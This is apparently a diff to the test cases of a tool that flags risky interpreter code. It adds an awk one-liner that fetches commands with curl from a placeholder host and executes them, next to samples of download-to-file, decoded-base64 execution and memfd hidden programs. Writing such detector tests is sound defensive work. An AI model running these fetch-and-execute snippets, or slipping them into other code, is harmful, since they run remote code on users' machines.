@@ -36,6 +36,7 @@ def test_what_python_starts(code: str, commands: tuple[str, ...]) -> None:
         ("python", "open('x', 'wb').write(urlopen('http://h').read())", "code-fetches"),
         ("perl", "system(decode_base64('aWQ='))", "executes-decoded"),
         ("python", "subprocess.Popen(x)", "code-spawns"),
+        ("awk", 'BEGIN{while(("curl -s http://h/x"|getline l)>0) system(l)}', "executes-fetched"),
         ("python", "print(os.memfd_create('a'))", "hidden-program"),
     ],
 )
